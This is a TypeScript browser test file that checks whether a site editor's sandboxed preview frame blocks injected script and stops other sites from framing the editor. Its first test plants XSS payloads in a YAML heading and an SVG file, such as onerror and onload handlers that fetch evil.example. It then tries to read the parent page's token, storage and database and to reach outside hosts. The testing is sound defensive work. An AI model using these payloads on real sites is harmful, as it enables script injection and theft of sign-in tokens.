import { expect, previewOf, signIn, test } from "./online-test.ts";

// All tests use one build, which takes longer than they do.
test.describe.configure({ mode: "default" });

test.describe("attacks", () => {
	test.use({ tolerated: /./ });

	test("code in the page under edit can reach neither the token nor any host", async ({ page, site }) => {
		const reachedHosts: string[] = [];
		// Only what the policy allows comes here.
		await page.route("https://evil.example/**", (route) => {
			reachedHosts.push(route.request().url());
			return route.fulfill({ body: "" });
		});
		const markup = `<img src="https://evil.example/?text" onerror="fetch('https://evil.example/?code')">`;
		const text = site.text.replace(
			"heading: Warm bread with your name on it",
			`heading: '${markup.replaceAll("'", "''")}'`,
		);
		const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('https://evil.example/?svg')"><image href="https://evil.example/?image"/></svg>`;
		site.fakeServer.commitOutside({ "site.yaml": text, "images/loaf.svg": drawing });
		await signIn(page, site);
		await expect(previewOf(page).getByText("?text")).toBeVisible();
		site.fakeServer.requests.length = 0;
		const frame = page.frames().find((one) => one.url().includes("/edit/frame"))!;
		const reached = await frame.evaluate(async (editor) => {
			const attempts: Record<string, () => unknown> = {
				origin: () => self.origin,
				storage: () => sessionStorage.length,
				parent: () => parent.document.title,
				settings: () => (parent as Window & { token?: string }).token,
				database: () =>
					new Promise((resolve, reject) => {
						const opening = indexedDB.open("site-editor");
						opening.onsuccess = () => resolve("opened");
						opening.onerror = () => reject(new Error());
					}),
				fetch: () => fetch("https://evil.example/?fetch"),
				own: () => fetch(editor).then((response) => response.text()),
				github: () => fetch("https://api.github.com/user"),
				picture: () =>
					new Promise((resolve, reject) => {
						const image = new Image();
						image.onload = resolve;
						image.onerror = () => reject(new Error());
						image.src = "https://evil.example/?picture";
					}),
				script: () =>
					new Promise((resolve, reject) => {
						const script = document.createElement("script");
						script.onload = resolve;
						script.onerror = () => reject(new Error());
						script.src = "https://evil.example/?script";
						document.body.append(script);
					}),
				popup: () => {
					if (!open("https://evil.example/?popup")) throw new Error();
				},
				top: () => {
					top!.location.href = "https://evil.example/?top";
				},
			};
			const done: string[] = [];
			for (const [name, attempt] of Object.entries(attempts)) {
				try {
					done.push(`${name}: ${await attempt()}`);
				} catch {
					// Expected: the attempt is blocked.
				}
			}
			return done;
		}, `${site.url}edit/`);
		expect(reached).toEqual(["origin: null"]);
		// If the frame could load another page, that page would get what is edited.
		await frame.evaluate(() => {
			location.href = "https://evil.example/?frame";
		});
		await expect.poll(() => page.frames().map((one) => one.url())).toContain("chrome-error://chromewebdata/");
		expect([...reachedHosts, ...site.fakeServer.requests]).toEqual([]);
		expect(page.url()).toBe(`${site.url}edit/`);
	});

	test("another website that shows the editor in a frame gets no sign-in", async ({ page, site }) => {
		await page.setContent(`<iframe src="${site.url}edit/" title="Editor"></iframe>`);
		const editor = page.frameLocator("iframe");
		await expect(editor.getByText("Open the editor in a tab of its own.")).toBeVisible();
		await expect(editor.getByLabel("Access token")).toHaveCount(0);
	});
});
